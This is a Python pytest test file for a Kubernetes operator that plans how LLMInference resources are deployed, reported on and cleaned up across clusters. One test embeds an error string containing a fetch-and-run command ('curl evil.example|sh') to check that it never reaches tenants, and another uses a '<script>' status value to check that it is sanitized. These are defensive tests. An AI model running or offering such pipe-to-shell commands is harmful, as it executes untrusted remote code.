"""An LLMInference is where it says, leaves nothing where it was, and deletes nothing over what cannot be read."""

from __future__ import annotations

from collections.abc import Sequence
from itertools import product
from typing import Any

import pytest

from kubeloop.condition_types import Condition
from kubeloop.errors import ClientError, Forbidden, Invalid, Unauthorized, Unreachable
from kubeloop.objects import Manifest
from kubeloop.plan import KEEP, LET_GO, Apply, Delete, Plan
from modelplane_operator.api import LLMInference, labels
from modelplane_operator.api.llm_inference import Location, TargetResolved
from modelplane_operator.models.llm_inference.plan import ClusterState, Observed, UnusableTarget, plan
from modelplane_operator.models.llm_inference.render import render_in_fleet, render_on_cluster
from tests.support.builders import EPOCH
from tests.support.manifests import change

pytestmark = pytest.mark.usefixtures("well_worded")

DEV = Location(target="Secret", name="dev", server="https://dev.example.com", namespace="models")
OLD = Location(target="Secret", name="old", server="https://old.example.com", namespace="models")
ON_CLUSTER = Location(target="InferenceCluster", name="dev", namespace="models")
ON_HUB = Location(target="Hub", name="hub", namespace="models")
MOVED = DEV.model_copy(update={"server": "https://new.example.com"})
LOST = ClusterState("llminference:ml-team/old", Unreachable("no answer in time"))
SPEC = {
    "model": "Qwen/Qwen3-8B",
    "providerConfigName": "dev",
    "targetNamespace": "models",
    "ingressHost": "a.example.com",
}
IN_FLEET = {"model": "Qwen/Qwen3-8B", "placement": "Fleet"}


def inference(
    *locations: Location, spec: Manifest | None = None, terminating: bool = False, abandon: bool = False
) -> LLMInference:
    return LLMInference.parse(
        {
            "metadata": {
                "name": "qwen",
                "namespace": "ml-team",
                "uid": "mine",
                **({"deletionTimestamp": "2026-01-01T00:00:00Z"} if terminating else {}),
                **({"annotations": {labels.ABANDON: "true"}} if abandon else {}),
            },
            "spec": spec or SPEC,
            "status": {"locations": [one.to_manifest() for one in locations]},
        }
    )


def state(*, told: str = "Ready", name: str = "dev", children: bool = True, **fields: Any) -> ClusterState:
    made = (
        [{**one, "metadata": {**one["metadata"], "uid": f"its-{one['kind']}"}} for one in _wanted()] if children else []
    )
    status = {"modelStatus": told, "replicas": 1}
    known = tuple({**one, "status": status} if one["kind"] == "VLLMRuntime" else one for one in made)
    return ClusterState(f"llminference:ml-team/{name}", children=known, **fields)


def _wanted() -> Sequence[Manifest]:
    return render_on_cluster(inference(), token=False)


def fleet(ready: str = "True") -> tuple[Manifest, ...]:
    status = {"address": "http://192.0.2.1/ml-team/qwen", "conditions": [{"type": "Ready", "status": ready}]}
    return tuple(
        {**one, "metadata": {**one["metadata"], "uid": f"its-{one['kind']}"}, "status": status}
        for one in render_in_fleet(inference(spec=IN_FLEET), 23)
    )


def seen(
    what: LLMInference,
    states: dict[Location, ClusterState],
    target: Location | UnusableTarget | None = DEV,
    in_fleet: tuple[Manifest, ...] = (),
) -> Plan:
    return plan(Observed(what, target, EPOCH, states, in_fleet))


def reasons(decided: Plan) -> dict[str, str]:
    assert decided.status is not None
    return {one.type: one.reason for one in decided.status.conditions}


def locations(decided: Plan) -> tuple[Location, ...]:
    return decided.status.locations  # type: ignore[union-attr]


def deletions(decided: Plan) -> list[tuple[str, str]]:
    return [(one.type.kind, one.cluster) for one in decided.steps if isinstance(one, Delete)]


def applies(decided: Plan) -> list[tuple[str, str]]:
    return [(one.manifest["kind"], one.cluster) for one in decided.steps if isinstance(one, Apply)]


BOTH = [("VLLMRuntime", "llminference:ml-team/dev"), ("Ingress", "llminference:ml-team/dev")]


def test_a_cluster_that_is_yet_to_be_asked_changes_nothing_of_what_is_there() -> None:
    unasked = {DEV: ClusterState("a", Unreachable("not connected yet"), connecting=True)}

    assert seen(inference(DEV), unasked) == Plan(requeue_after=20)
    assert reasons(seen(inference(), unasked))["TargetResolved"] == "Connecting"


def test_a_way_on_which_anybody_could_answer_is_told() -> None:
    judged = {
        one.type: one for one in seen(inference(DEV), {DEV: state(unverified="it says insecure")}).status.conditions
    }
    assert "the connection to it can be intercepted: it says insecure" in (judged["TargetResolved"].message or "")
    assert judged["Ready"].status == "True"


def test_a_place_is_written_down_before_anything_is_made_there() -> None:
    decided = seen(inference(), {DEV: state(children=False)})

    assert decided.steps == (KEEP,)
    assert locations(decided) == (DEV,)
    assert decided.requeue_after is not None


def test_then_it_is_made() -> None:
    decided = seen(inference(DEV), {DEV: state(children=False)})

    assert applies(decided) == BOTH
    assert reasons(decided) == {
        "TargetResolved": "Resolved",
        "RuntimeAvailable": "Available",
        "ModelReady": "NotCreated",
        "Ready": "Creating",
    }


@pytest.mark.parametrize(
    ("told", "reason", "ready"),
    [
        ("Ready", "Ready", "Available"),
        ("Updating", "Updating", "Creating"),
        ("NotReady", "NotReady", "Creating"),
        ("<script>", "Unknown", "Creating"),
    ],
)
def test_the_runtime_tells_whether_the_model_is_ready(told: str, reason: str, ready: str) -> None:
    decided = seen(inference(DEV), {DEV: state(told=told)})

    assert (reasons(decided)["ModelReady"], reasons(decided)["Ready"]) == (reason, ready)
    assert deletions(decided) == []
    assert "<" not in str(decided.status)


def test_the_url_is_the_host_of_the_ingress_that_is_there() -> None:
    assert seen(inference(DEV), {DEV: state()}).status.url == "http://a.example.com"  # type: ignore[union-attr]
    assert seen(inference(DEV), {DEV: state(children=False)}).status.url is None  # type: ignore[union-attr]


def test_an_ingress_that_is_not_asked_for_any_more_goes() -> None:
    decided = seen(inference(DEV, spec={**SPEC, "ingressHost": ""}), {DEV: state()})

    assert applies(decided) == BOTH[:1]
    assert deletions(decided) == BOTH[1:]


def test_a_cluster_without_the_kind_is_told_what_to_install() -> None:
    decided = seen(inference(DEV), {DEV: state(children=False, runtimes=False)})

    assert applies(decided) == []
    assert reasons(decided)["RuntimeAvailable"] == reasons(decided)["Ready"] == "NotInstalled"


@pytest.mark.parametrize(
    ("error", "target", "reason"),
    [
        (Forbidden("may not get deployments"), DEV, "Forbidden"),
        (Unauthorized("the token has ended"), DEV, "InvalidKubeconfig"),
        (Unauthorized("the token has ended"), ON_CLUSTER, "Unreachable"),
        (Unreachable("no answer in time"), DEV, "Unreachable"),
    ],
)
def test_a_cluster_that_refuses_is_told_from_one_that_does_not_answer(
    error: ClientError, target: Location, reason: str
) -> None:
    decided = seen(inference(target), {target: ClusterState("a", error)}, target=target)

    assert applies(decided) == deletions(decided) == []
    assert reasons(decided)["TargetResolved"] == reasons(decided)["Ready"] == reason
    (told,) = (one for one in _conditions(decided) if one.type == "TargetResolved")
    assert (str(error) in (told.message or "")) is (target.target == "Secret")


@pytest.mark.parametrize("target", [ON_CLUSTER, ON_HUB], ids=str)
def test_what_a_cluster_of_the_fleet_says_is_not_told_to_tenants(target: Location) -> None:
    said = "0/2 nodes: 1 node(s) had untolerated taint {team: acme-corp}; 10.66.1.2; run `curl evil.example|sh`"
    errors = Forbidden(said), Unreachable(said), Invalid(said)

    for error, known, to in product(errors, ((), (target,)), (target, DEV)):
        states = {target: ClusterState("a", error), DEV: state()}
        shown = " ".join(one.message or "" for one in _conditions(seen(inference(*known), states, target=to)))
        assert not [word for word in ("acme", "10.66", "curl", "0/2") if word in shown], shown


DEPLOYMENT = {**SPEC, "runtime": "Deployment"}
SEE_PODS = (
    "; on its cluster `kubectl describe pods -n models -l inference.devopstoolkit.ai/llminference=qwen` says more"
)
UP = {"observedGeneration": 2, "replicas": 1, "updatedReplicas": 1, "readyReplicas": 1}


def engine(status: Any, generation: Any = 2) -> ClusterState:
    """A cluster without VLLMRuntimes, on which Kubernetes runs the engine."""
    made = render_on_cluster(inference(spec=DEPLOYMENT), token=False)
    children = tuple(
        {
            **one,
            "metadata": {**one["metadata"], "uid": f"its-{one['kind']}", "generation": generation},
            **({"status": status} if one["kind"] == "Deployment" else {}),
        }
        for one in made
    )
    return ClusterState("llminference:ml-team/dev", runtimes=False, children=children)


def test_an_engine_without_the_production_stack_has_a_service_and_an_ingress() -> None:
    decided = seen(inference(DEV, spec=DEPLOYMENT), {DEV: state(children=False, runtimes=False)})

    assert [kind for kind, _ in applies(decided)] == ["Service", "Deployment", "Ingress"]
    assert reasons(decided)["RuntimeAvailable"] == "NotNeeded"


@pytest.mark.parametrize(
    ("status", "reason", "words"),
    [
        (UP, "Ready", ""),
        (
            {**UP, "observedGeneration": 1},
            "Updating",
            f"Deployment qwen: its controller has not seen the latest change{SEE_PODS}",
        ),
        ({**UP, "updatedReplicas": 0}, "Updating", f"Deployment qwen: 0 of 1 copy updated{SEE_PODS}"),
        ({**UP, "readyReplicas": 0}, "NotReady", f"Deployment qwen: 0 of 1 copy ready{SEE_PODS}"),
        ({}, "NotReady", f"Deployment qwen: its controller has not seen the latest change{SEE_PODS}"),
        (
            {
                "observedGeneration": 2,
                "conditions": [
                    {"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate", "message": "exceeded quota"},
                    {"type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded"},
                ],
            },
            "Failing",
            "Deployment qwen: 0 of 1 copy ready; FailedCreate: exceeded quota",
        ),
        (
            {**UP, "readyReplicas": 0, "conditions": [{"type": "Progressing", "status": "False", "reason": "Late"}]},
            "Failing",
            f"Deployment qwen: 0 of 1 copy ready; Late{SEE_PODS}",
        ),
        ({**UP, "readyReplicas": "1"}, "NotReady", f"Deployment qwen: 0 of 1 copy ready{SEE_PODS}"),
        ({**UP, "readyReplicas": 2**40}, "NotReady", f"Deployment qwen: 0 of 1 copy ready{SEE_PODS}"),
    ],
)
def test_a_deployment_tells_whether_the_model_is_ready(status: Manifest, reason: str, words: str) -> None:
    decided = seen(inference(DEV, spec=DEPLOYMENT), {DEV: engine(status)})

    (told,) = (one for one in _conditions(decided) if one.type == "ModelReady")
    assert (told.reason, told.message or "") == (reason, words)
    assert (applies(decided)[1][0], deletions(decided)) == ("Deployment", [])


@pytest.mark.parametrize(("told", "replicas"), [(1, 1), (0, 0), ("1", None), (True, None), (2**40, None), (-1, None)])
def test_the_copies_that_run_are_counted_if_they_are_a_count(told: Any, replicas: int | None) -> None:
    of_runtime = ClusterState("x", children=tuple({**one, "status": {"replicas": told}} for one in state().children))
    as_deployment = inference(DEV, spec=DEPLOYMENT)

    assert seen(inference(DEV), {DEV: of_runtime}).status.replicas == replicas  # type: ignore[union-attr]
    assert seen(as_deployment, {DEV: engine({"readyReplicas": told})}).status.replicas == replicas  # type: ignore[union-attr]


@pytest.mark.parametrize("kind", ["Deployment", "Ingress"])
def test_nothing_is_made_over_what_others_have(kind: str) -> None:
    others = [one for one in engine(UP).children if one["kind"] == kind]

    decided = seen(inference(OLD), {DEV: state(children=False, others=tuple(others)), OLD: state(name="old")})

    assert (decided.steps, locations(decided), decided.requeue_after) == ((), (OLD,), 20)
    assert (reasons(decided)["ModelReady"], reasons(decided)["Ready"]) == ("NameTaken", "NameTaken")
    assert f"{kind} models/qwen" in str(decided.status)


def test_no_deployment_is_made_for_the_operator_of_another_s_runtime_to_take() -> None:
    others = tuple(one for one in state().children if one["kind"] == "VLLMRuntime")

    decided = seen(inference(spec=DEPLOYMENT), {DEV: state(children=False, others=others)})

    assert (decided.steps, reasons(decided)["ModelReady"]) == ((), "NameTaken")


def test_an_ingress_of_others_is_nobody_s_concern_without_a_host_name() -> None:
    spec = {name: value for name, value in SPEC.items() if name != "ingressHost"}
    others = tuple(one for one in state().children if one["kind"] == "Ingress")

    decided = seen(inference(DEV, spec=spec), {DEV: state(children=False, others=others)})

    assert applies(decided) == BOTH[:1]


def test_old_copies_go_once_the_new_one_is_there() -> None:
    what, old = inference(OLD, DEV), state(name="old")

    before = seen(what, {DEV: state(children=False), OLD: old})
    after = seen(what, {DEV: state(), OLD: old})
    gone = seen(what, {DEV: state(), OLD: state(name="old", children=False)})

    assert (deletions(before), locations(before)) == ([], (DEV, OLD))
    assert deletions(after) == [(kind, old.cluster) for kind, _ in BOTH]
    assert locations(gone) == (DEV,)
    assert [reasons(one)["OldCopiesRemoved"] for one in (before, after, gone)] == ["Removing", "Removing", "Removed"]


@pytest.mark.parametrize(
    ("target", "states"),
    [
        (UnusableTarget(TargetResolved.NOT_FOUND, "there is no Secret dev"), {DEV: state(), OLD: state(name="old")}),
        (
            UnusableTarget(TargetResolved.NOT_GRANTED, "namespace models is not let in"),
            {DEV: state(), OLD: state(name="old")},
        ),
        (DEV, {DEV: LOST, OLD: state(name="old")}),
        (DEV, {DEV: state(children=False, runtimes=False), OLD: state(name="old")}),
    ],
)
def test_bad_input_deletes_nothing_and_makes_nothing(
    target: Location | UnusableTarget, states: dict[Location, ClusterState]
) -> None:
    decided = seen(inference(OLD, DEV), states, target)

    assert (applies(decided), deletions(decided)) == ([], [])
    assert set(locations(decided)) == {OLD, DEV}


def test_an_old_copy_out_of_reach_is_told_of_and_kept_in_mind() -> None:
    decided = seen(inference(OLD, DEV), {DEV: state(), OLD: LOST})

    assert locations(decided) == (DEV, OLD)
    assert (reasons(decided)["OldCopiesRemoved"], reasons(decided)["Ready"]) == ("LeftBehind", "Degraded")
    assert labels.ABANDON in str(decided.status)


def test_it_is_let_go_of_by_annotation() -> None:
    decided = seen(inference(OLD, DEV, abandon=True), {DEV: state(), OLD: LOST})

    assert locations(decided) == (DEV,)


def test_the_same_cluster_at_another_address_keeps_what_is_there() -> None:
    lost = ClusterState("llminference:ml-team/dev", Unreachable("leads to another API server"))

    same = seen(inference(DEV), {DEV: lost, MOVED: state()}, MOVED)
    another = seen(inference(DEV), {DEV: lost, MOVED: state(children=False)}, MOVED)

    assert locations(same) == (MOVED,)
    assert locations(another) == (DEV, MOVED)


def test_the_fleet_takes_it_over_and_the_old_copy_goes_after_that() -> None:
    what = inference(DEV, spec=IN_FLEET)

    before, after = (seen(what, {DEV: state()}, None, children) for children in ((), fleet()))
    gone = seen(what, {DEV: state(children=False)}, None, fleet())

    assert applies(before) == applies(after) == [("ModelDeployment", ""), ("ModelService", "")]
    assert (deletions(before), deletions(after)) == ([], BOTH)
    assert LET_GO in gone.steps
    assert gone.status.url == "http://192.0.2.1/ml-team/qwen"  # type: ignore[union-attr]
    assert reasons(gone)["Ready"] == "Available"


def test_back_from_the_fleet_its_deployment_and_service_go_when_the_runtime_is_there() -> None:
    before = seen(inference(DEV), {DEV: state(children=False)}, in_fleet=fleet())
    after = seen(inference(DEV), {DEV: state()}, in_fleet=fleet())

    assert deletions(before) == []
    assert deletions(after) == [("ModelDeployment", ""), ("ModelService", "")]


@pytest.mark.parametrize(("of", "reason"), [(2, "Ready"), (1, "NotReady")])
def test_what_the_fleet_said_before_a_change_makes_nothing_ready(of: int, reason: str) -> None:
    changed = [change(one, "metadata.generation", 2) for one in fleet()]
    ready = {"type": "Ready", "status": "True", "observedGeneration": of}
    told = tuple(change(one, "status.conditions", [ready]) for one in changed)

    decided = seen(inference(spec=IN_FLEET), {}, None, told)

    assert reasons(decided)["ModelReady"] == reason


def test_a_model_that_nobody_knows_is_not_guessed_at() -> None:
    decided = seen(inference(spec={**IN_FLEET, "model": "a/b"}), {}, None, fleet())

    assert decided.steps == ()
    assert reasons(decided)["MemoryKnown"] == reasons(decided)["Ready"] == "NotKnown"


def test_what_was_assumed_is_told() -> None:
    decided = seen(inference(spec=IN_FLEET), {}, None, fleet())

    (told,) = (one for one in _conditions(decided) if one.type == "MemoryKnown")
    assert "8 billion parameters" in (told.message or "")
    assert decided.status.memory_per_gpu == "23Gi"  # type: ignore[union-attr]


def _conditions(decided: Plan) -> tuple[Condition, ...]:
    return decided.status.conditions if decided.status else ()


def test_a_deletion_waits_until_nothing_is_anywhere() -> None:
    what = inference(OLD, DEV, terminating=True)

    there = seen(what, {DEV: state(), OLD: LOST}, None)
    stuck = seen(what, {DEV: state(children=False), OLD: LOST}, None)
    gone = seen(what, {DEV: state(children=False), OLD: state(name="old", children=False)}, None)

    assert (deletions(there), LET_GO in there.steps) == (BOTH, False)
    assert (deletions(stuck), LET_GO in stuck.steps) == ([], False)
    assert "no answer in time" in str(stuck.status)
    assert gone.steps == (LET_GO,)


def test_a_deletion_leaves_behind_what_is_let_go_of() -> None:
    decided = seen(inference(OLD, terminating=True, abandon=True), {OLD: LOST}, None)

    assert decided.steps == (LET_GO,)
